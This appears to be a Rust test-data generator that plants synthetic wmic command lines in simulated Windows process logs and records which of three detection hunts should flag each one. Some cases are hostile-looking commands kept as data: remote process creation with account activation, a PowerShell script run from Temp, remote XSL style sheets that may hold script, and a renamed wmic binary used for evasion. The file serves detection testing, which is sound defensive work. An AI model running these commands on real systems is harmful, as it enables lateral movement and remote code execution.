//! Planted uses of wmic, hostile and harmless, and for each of the three wmic hunts whether it reports them. It knows nothing
//! of raw shapes or files.

use super::answers::{Hunt, Kind};
use super::event::Integrity;
use super::planned::{Launch, Scene};
use super::programs::{CMD, NOTEPAD, Program, WINNODE, WMIC};
use super::stories::{MILLISECOND, Stage};
use super::text::{DAY, SECOND};

use Hunt::{RemoteWmiCommandAttempt as Node, WmicFormat as Format, WmicRemoteIp as Address};

/// A command line and what the hunts say of it. Hunts named in neither list do not come near it.
struct Case {
    program: &'static Program,
    image: Option<&'static str>,
    command: &'static str,
    hits: &'static [Hunt],
    misses: &'static [Hunt],
    why: &'static str,
}

const fn wmic(
    command: &'static str,
    hits: &'static [Hunt],
    misses: &'static [Hunt],
    why: &'static str,
) -> Case {
    Case {
        program: &WMIC,
        image: None,
        command,
        hits,
        misses,
        why,
    }
}

const fn other(program: &'static Program, command: &'static str, why: &'static str) -> Case {
    Case {
        program,
        image: None,
        command,
        hits: &[],
        misses: &[Node, Address, Format],
        why,
    }
}

static CASES: [Case; 24] = [
    wmic(
        r#"wmic /node:10.20.3.17 process call create "cmd.exe /c net user svc_backup /active:yes""#,
        &[Node, Address],
        &[],
        "starts a process on another host, named by address",
    ),
    wmic(
        r#"wmic /node:SRV-FILE02 process call create "powershell.exe -File C:\Windows\Temp\upd.ps1""#,
        &[Node],
        &[Address],
        "starts a process on another host, named by name: no address in the command line",
    ),
    wmic(
        r#"wmic /node:127.0.0.1,10.20.3.18 service where name="Spooler" call stopservice"#,
        &[Node, Address],
        &[],
        "a list whose first address is a loopback one: a rule that looks at the first only misses it",
    ),
    Case {
        program: &WMIC,
        image: Some(r"C:\Users\Public\svc.exe"),
        command: r#"svc.exe /node:10.20.3.19 process call create "C:\Users\Public\run.cmd""#,
        hits: &[Node, Address],
        misses: &[],
        why: "a renamed copy: only OriginalFileName says wmic.exe, so a 4688 record of it cannot match",
    },
    wmic(
        r#"wmic process list /format:"http://198.51.100.7/x.xsl""#,
        &[Format, Address],
        &[],
        "a style sheet from a web server, which may hold script",
    ),
    wmic(
        r"wmic os get /format:\\198.51.100.7\share\p.xsl",
        &[Format, Address],
        &[],
        "a style sheet from a share",
    ),
    wmic(
        r"wmic os get /FORMAT:C:\ProgramData\r.xsl",
        &[Format],
        &[Address],
        "a style sheet from a local path, in capitals",
    ),
    wmic(
        r#"wmic /node:"2001:db8:20::17" computersystem get model"#,
        &[Node, Address],
        &[],
        "another host by its IPv6 address",
    ),
    wmic(
        "wmic qfe list brief /format:csv",
        &[Format],
        &[Address, Node],
        "harmless inventory: the published rule reports every format",
    ),
    wmic(
        "wmic /node:127.0.0.1 os get caption",
        &[Node],
        &[Address],
        "this host: the published rule reports every node, the address is a loopback one",
    ),
    wmic(
        r#"wmic /node:"::1" os get version"#,
        &[Node],
        &[Address],
        "this host by its IPv6 loopback address",
    ),
    wmic(
        r#"wmic product where "version='10.0.19041.1'" get name"#,
        &[],
        &[Address, Node, Format],
        "a version whose third part is no octet",
    ),
    wmic(
        r#"wmic product where "version='6.3.960.1'" get name"#,
        &[],
        &[Address],
        "a version whose third part is above 255",
    ),
    other(
        &WINNODE,
        r#""C:\Program Files\Winnode\winnode.exe" --node 10.20.4.9 --format json"#,
        "another program with node, format and an address",
    ),
    other(
        &NOTEPAD,
        r#""C:\Windows\system32\notepad.exe" "C:\Reports\format\node list 10.20.4.9.txt""#,
        "a path that holds format, node and an address, opened by an editor",
    ),
    other(
        &CMD,
        r"C:\Windows\system32\cmd.exe /c D:\Jobs\format-report.cmd \\SRV-FILE01\reports\node7 10.20.4.10",
        "a batch file named format-something",
    ),
    wmic(
        "wmic path Win32_PerfFormattedData_PerfOS_Processor get PercentProcessorTime",
        &[Format],
        &[Address],
        "format only inside the name of a class: the published rule reports it",
    ),
    wmic(
        "wmic logicaldisk where drivetype=3 get size",
        &[],
        &[Node, Address, Format],
        "local inventory",
    ),
    wmic(
        r"WMIC.exe  /NODE:@C:\Temp\hosts.txt os get caption",
        &[Node],
        &[Address],
        "hosts from a file, in capitals",
    ),
    wmic(
        "wmic /node:127.0.0.10 os get caption",
        &[Node],
        &[Address],
        "every address of 127.0.0.0/8 is a loopback one",
    ),
    wmic(
        r#"wmic /node:10.20.3.21 /user:CORP\adm.reyes process call create "cmd.exe /c whoami""#,
        &[Node, Address],
        &[],
        "starts a process on another host with another account",
    ),
    wmic(
        "wmic product get name,version",
        &[],
        &[Address],
        "the versions are in the output, not in the command line",
    ),
    wmic(
        r"wmic /node:203.0.113.50 /failfast:on os get /format:htable",
        &[Node, Address, Format],
        &[],
        "an outside address and an output style: all three hunts",
    ),
    wmic(
        "wmic nodefault get name",
        &[Node],
        &[Address],
        "node only as part of another word: the published rule reports it",
    ),
];

/// Plants a third of the cases on each day, in turn, and the later ones on theirs.
pub(crate) fn plant(stage: &mut Stage<'_>, midnight: i64, nth: u32, days: u32) {
    let turns = days.min(3);
    for (index, case) in (0_u32..).zip(&CASES) {
        if index % turns == nth % turns {
            tell(stage, midnight, nth, index, case);
        }
    }
}

fn tell(stage: &mut Stage<'_>, midnight: i64, nth: u32, index: u32, case: &Case) {
    // The renamed copy belongs where a 4688 record of it exists, to show that it cannot match.
    let scene = if case.image.is_some() {
        Scene {
            collector: 0,
            nth: 0,
        }
    } else {
        Scene {
            collector: usize::try_from((index + nth) % 5).unwrap_or(0),
            nth: usize::try_from(index).unwrap_or(0) + 1,
        }
    };
    let host = stage.host_at(scene);
    let account = stage.account_of(host);
    let at = moment(midnight, i64::from(index)) + stage.rng.between(0, 59_000) * MILLISECOND;
    let mut stories = Vec::new();
    let mut audit_stories = Vec::new();
    let answers = (case.hits.iter().map(|hunt| (*hunt, Kind::Hit)))
        .chain(case.misses.iter().map(|hunt| (*hunt, Kind::NearMiss)));
    for (hunt, kind) in answers {
        let key = ("command_line", case.command);
        let story = stage.begin(hunt, kind, host, key, case.why);
        stories.push(story);
        if case.image.is_none() {
            audit_stories.push(story);
        }
    }
    let desktop = stage.desktop(host);
    let directory = format!(r"C:\Users\{}\", stage.account(account).name);
    let shell = stage.launch(&Launch {
        host,
        at: at - 3 * SECOND,
        program: &CMD,
        image: None,
        command: r#""C:\Windows\system32\cmd.exe" "#,
        directory: &directory,
        account,
        integrity: Integrity::High,
        parent: &desktop,
        client: None,
        stories: &[],
        audit_stories: &[],
    });
    stage.launch(&Launch {
        host,
        at,
        program: case.program,
        image: case.image,
        command: case.command,
        directory: &directory,
        account,
        integrity: Integrity::High,
        parent: &shell,
        client: None,
        stories: &stories,
        audit_stories: &audit_stories,
    });
}

/// Spread over the day, and away from midnight.
fn moment(midnight: i64, place: i64) -> i64 {
    const MINUTE: i64 = 60 * SECOND;
    midnight
        + 60 * MINUTE
        + (place * 47 * MINUTE + place * place * 13 * SECOND) % (DAY - 180 * MINUTE)
}
